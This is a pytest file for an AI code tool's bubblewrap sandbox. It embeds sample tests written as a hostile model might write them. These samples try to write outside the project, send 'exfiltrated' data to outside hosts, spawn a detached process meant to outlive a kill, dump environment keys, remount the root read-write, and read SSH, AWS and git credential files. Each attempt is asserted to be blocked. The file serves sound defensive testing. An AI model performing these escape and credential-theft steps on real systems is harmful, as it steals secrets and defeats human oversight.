"""Generated tests that try to escape the sandbox (workbench.safety.sandbox.run).

Each generated test file is what a hostile or broken model could write; it runs
with pytest inside the sandbox exactly as the `tests`/`monitor` steps run it.
"""

from __future__ import annotations

import os
import socket
import sys
import textwrap
import threading
import uuid
from pathlib import Path

import pytest

from workbench.safety import sandbox
from workbench.safety.sandbox import SandboxUnavailable, run, sandbox_available

from .conftest import SENTINELS, tree

needs_bwrap = pytest.mark.skipif(not sandbox_available(), reason=sandbox.sandbox_status()[1])


def _project(tmp_path: Path, test_body: str) -> Path:
    proj = tmp_path / "proj"
    (proj / "tests").mkdir(parents=True)
    (proj / "tests" / "test_generated.py").write_text(textwrap.dedent(test_body))
    return proj


def _pytest(proj: Path, **kw):
    kw.setdefault("timeout", 120)
    return run(
        [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "tests"],
        proj,
        **kw,
    )


@needs_bwrap
def test_generated_test_cannot_write_outside_the_project(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    home_marker = Path.home() / f".wb-escape-{uuid.uuid4().hex}"
    proj = _project(
        tmp_path,
        f"""
        import os, pytest
        TARGETS = [{str(outside / "pwned.txt")!r}, {str(home_marker)!r},
                   "/etc/wb-pwned", {str(Path(sys.executable).parent / "wb-pwned")!r}]

        @pytest.mark.parametrize("target", TARGETS)
        def test_escape(target):
            with open(target, "w") as fh:
                fh.write("pwned")

        def test_inside_is_fine():
            open("inside.txt", "w").write("ok")
            open("/tmp/scratch.txt", "w").write("ok")
        """,
    )
    res = _pytest(proj)
    assert res.sandbox == "bwrap"
    assert res.exit_code != 0 and "4 failed, 1 passed" in res.output
    assert "Read-only file system" in res.output
    assert tree(outside) == {}
    assert not home_marker.exists()
    assert not Path("/etc/wb-pwned").exists()
    assert not (Path(sys.executable).parent / "wb-pwned").exists()
    assert (proj / "inside.txt").read_text() == "ok", "the project itself stays writable"
    assert not Path("/tmp/scratch.txt").exists(), "the sandbox /tmp is private"


@needs_bwrap
def test_generated_test_cannot_reach_the_network_or_host_loopback(tmp_path):
    """A listening socket on the host's 127.0.0.1 and the internet are both unreachable."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    port = srv.getsockname()[1]
    accepted = []

    def accept():
        srv.settimeout(30)
        try:
            conn, _ = srv.accept()
            accepted.append(conn.recv(100))
            conn.close()
        except OSError:
            pass

    t = threading.Thread(target=accept, daemon=True)
    t.start()
    proj = _project(
        tmp_path,
        f"""
        import socket, pytest

        @pytest.mark.parametrize("addr", [("127.0.0.1", {port}), ("1.1.1.1", 443), ("8.8.8.8", 53)])
        def test_connect(addr):
            s = socket.socket()
            s.settimeout(5)
            s.connect(addr)
            s.sendall(b"exfiltrated")

        def test_dns():
            socket.getaddrinfo("example.com", 443)
        """,
    )
    try:
        res = _pytest(proj)
    finally:
        srv.close()
        t.join(timeout=5)
    assert res.sandbox == "bwrap"
    assert "4 failed" in res.output, res.output
    assert "Network is unreachable" in res.output or "Connection refused" in res.output
    assert accepted == [], "nothing reached the host's loopback listener"


@needs_bwrap
def test_generated_test_running_past_the_limit_is_killed_with_its_children(tmp_path):
    token = f"wb-runaway-{uuid.uuid4().hex}"
    proj = _project(
        tmp_path,
        f"""
        import subprocess, time

        def test_forever():
            # a child in its own session that would outlive a naive kill
            subprocess.Popen(["sh", "-c", "exec -a {token} sleep 1000"], start_new_session=True)
            while True:
                open("heartbeat", "a").write(".")
                time.sleep(0.05)
        """,
    )
    res = _pytest(proj, timeout=3)
    assert res.timed_out and res.exit_code != 0 and not res.ok
    assert "killed after the 3s time limit" in res.output
    assert (proj / "heartbeat").exists(), "it did run"
    # the whole sandbox (pytest and the detached child) is gone
    for _ in range(100):
        if not _processes_with(token):
            break
        threading.Event().wait(0.1)
    assert _processes_with(token) == []
    size = (proj / "heartbeat").stat().st_size
    threading.Event().wait(0.5)
    assert (proj / "heartbeat").stat().st_size == size, "nothing keeps writing"


def _processes_with(token: str) -> list[int]:
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            cmd = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        if token.encode() in cmd:
            found.append(int(pid))
    return found


@needs_bwrap
def test_generated_test_using_too_much_memory_fails_without_hurting_the_host(tmp_path):
    proj = _project(
        tmp_path,
        """
        def test_hog():
            blocks = []
            for _ in range(64):
                blocks.append(bytearray(64 * 1024 * 1024))  # 4 GiB in total
        """,
    )
    res = _pytest(proj, memory_mb=512)
    assert res.exit_code != 0 and not res.timed_out
    assert "MemoryError" in res.output
    assert res.memory_mb == 512


@needs_bwrap
def test_generated_test_sees_no_keys_in_its_environment(tmp_path, monkeypatch):
    for name, value in {
        "OPENAI_API_KEY": SENTINELS["openai"],
        "ANTHROPIC_API_KEY": SENTINELS["anthropic"],
        "GITHUB_TOKEN": SENTINELS["github"],
        "AWS_SECRET_ACCESS_KEY": SENTINELS["aws-secret"],
        "MY_KEY_VAR": "custom-credential-value-1234",
        "INNOCENT_LOOKING": SENTINELS["google"],
    }.items():
        monkeypatch.setenv(name, value)
    from workbench.safety import redact

    redact.register_key_env("MY_KEY_VAR")
    try:
        proj = _project(
            tmp_path,
            """
            import os

            def test_dump():
                with open("env.txt", "w") as fh:
                    for k, v in sorted(os.environ.items()):
                        fh.write(f"{k}={v}\\n")
                print(dict(os.environ))
            """,
        )
        res = _pytest(proj, env={"EXTRA_SECRET": "passed-in-by-mistake-123"})
    finally:
        redact._registered_env.discard("MY_KEY_VAR")
    assert res.exit_code == 0, res.output
    dumped = (proj / "env.txt").read_text()
    for leaked in (*SENTINELS.values(), "custom-credential-value-1234", "passed-in-by-mistake-123"):
        assert leaked not in dumped and leaked not in res.output
    for name in ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY",
                 "MY_KEY_VAR", "INNOCENT_LOOKING", "EXTRA_SECRET"):
        assert f"\n{name}=" not in "\n" + dumped
    assert "\nHOME=/tmp/home\n" in "\n" + dumped


@needs_bwrap
def test_generated_test_cannot_regain_write_access_to_the_host(tmp_path):
    """Even running as root, the sandboxed process has no capabilities: no remount rw."""
    proj = _project(
        tmp_path,
        """
        import subprocess

        def test_remount():
            caps = [l for l in open("/proc/self/status") if l.startswith("CapEff")][0]
            assert caps.split()[1].strip("0") == "", caps
            r = subprocess.run(["mount", "-o", "remount,rw", "/"], capture_output=True, text=True)
            assert r.returncode != 0
            try:
                open("/usr/wb-pwned", "w")
            except OSError as e:
                assert "Read-only" in str(e)
            else:
                raise AssertionError("host writable")
        """,
    )
    res = _pytest(proj)
    assert res.exit_code == 0, res.output
    assert "1 passed" in res.output
    assert not Path("/usr/wb-pwned").exists()


@needs_bwrap
def test_generated_test_cannot_read_credential_files(tmp_path, monkeypatch):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("PRIVATE-SENTINEL")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("AWS-SENTINEL")
    (home / ".git-credentials").write_text("https://user:GIT-SENTINEL@github.com")
    monkeypatch.setenv("HOME", str(home))
    proj = _project(
        tmp_path,
        f"""
        import pathlib, pytest

        @pytest.mark.parametrize("p", [".ssh/id_rsa", ".aws/credentials", ".git-credentials"])
        def test_read(p):
            data = (pathlib.Path({str(home)!r}) / p).read_text()
            print("GOT", data)
            assert "SENTINEL" in data
        """,
    )
    res = _pytest(proj)
    assert "3 failed" in res.output, res.output
    assert "PRIVATE-SENTINEL" not in res.output and "AWS-SENTINEL" not in res.output
    assert "GIT-SENTINEL" not in res.output


def test_without_bubblewrap_the_run_is_refused_with_a_clear_message(tmp_path, monkeypatch):
    monkeypatch.setenv("WORKBENCH_BWRAP", "none")
    proj = _project(tmp_path, "def test_x():\n    open('ran.txt', 'w').write('1')\n")
    with pytest.raises(SandboxUnavailable) as exc:
        _pytest(proj)
    msg = str(exc.value)
    assert "bubblewrap" in msg and "not installed" in msg
    assert "--allow-unsandboxed" in msg and "refusing" in msg
    assert exc.value.exit_code == 1
    assert not (proj / "ran.txt").exists(), "nothing ran"
    assert sandbox.sandbox_available() is False


def test_unsandboxed_only_when_allowed_and_it_says_so(tmp_path, monkeypatch):
    monkeypatch.setenv("WORKBENCH_BWRAP", "none")
    monkeypatch.setenv("ANTHROPIC_API_KEY", SENTINELS["anthropic"])
    proj = _project(
        tmp_path,
        """
        import os

        def test_x():
            open('ran.txt', 'w').write(repr(sorted(os.environ)))
        """,
    )
    res = _pytest(proj, allow_unsandboxed=True, timeout=120)
    assert res.exit_code == 0, res.output
    assert res.sandbox == "none", "the audit can record that it ran without protection"
    assert "not installed" in res.note
    assert "ANTHROPIC_API_KEY" not in (proj / "ran.txt").read_text(), "keys are still stripped"


def test_a_broken_bubblewrap_is_detected_not_trusted(tmp_path, monkeypatch):
    """A bwrap that cannot create namespaces (containers) counts as unavailable."""
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to creating new namespace' >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setenv("WORKBENCH_BWRAP", str(fake))
    ok, reason = sandbox.sandbox_status()
    assert ok is False
    assert "No permissions to creating new namespace" in reason
    with pytest.raises(SandboxUnavailable, match="does not work here"):
        run(["true"], tmp_path, timeout=10)


def test_missing_command_and_output_redaction(tmp_path):
    res = run(["definitely-not-a-command-xyz"], tmp_path, timeout=30, allow_unsandboxed=True)
    assert res.exit_code == 127 and "command not found: definitely-not-a-command-xyz" in res.output
    res = run(["echo", SENTINELS["anthropic"]], tmp_path, timeout=30, allow_unsandboxed=True)
    assert res.exit_code == 0 and SENTINELS["anthropic"] not in res.output
    assert "sk-ant-…****" in res.output


# --- through the CLI: bubblewrap missing --------------------------------------


def _runs(home: Path) -> list[tuple[str, str]]:
    import sqlite3

    con = sqlite3.connect(f"file:{home / 'workbench.db'}?mode=ro", uri=True)
    try:
        return [(r[0], r[1]) for r in con.execute("select step, sandbox from runs order by id")]
    finally:
        con.close()


def test_cli_refuses_to_run_generated_code_without_bubblewrap(tmp_path, wb_home):
    from .conftest import FIXTURE_SPEC, run_wb

    out = tmp_path / "proj"
    r = run_wb("new", "csv2json", "--spec", str(FIXTURE_SPEC), "--out", str(out), "--yes",
               "--no-monitor", home=wb_home, env_extra={"WORKBENCH_BWRAP": "none"})
    told = r.stdout + r.stderr
    assert r.returncode == 1, told
    assert "bubblewrap" in told and "--allow-unsandboxed" in told and "Traceback" not in told
    assert "tests" in told, "the message names the step"
    assert not out.exists() or not any(out.iterdir()), "nothing applied"
    assert all(sb != "none" for _step, sb in _runs(wb_home)), "nothing ran unsandboxed"


def test_cli_runs_unsandboxed_only_with_the_flag_and_records_it(tmp_path, wb_home):
    from .conftest import FIXTURE_SPEC, run_wb

    out = tmp_path / "proj"
    r = run_wb("new", "csv2json", "--spec", str(FIXTURE_SPEC), "--out", str(out), "--yes",
               "--allow-unsandboxed", home=wb_home, env_extra={"WORKBENCH_BWRAP": "none"})
    assert r.returncode == 0, r.stdout + r.stderr
    runs = _runs(wb_home)
    assert runs and all(sb == "none" for _step, sb in runs), runs
    assert {"tests", "monitor"} <= {step for step, _sb in runs}
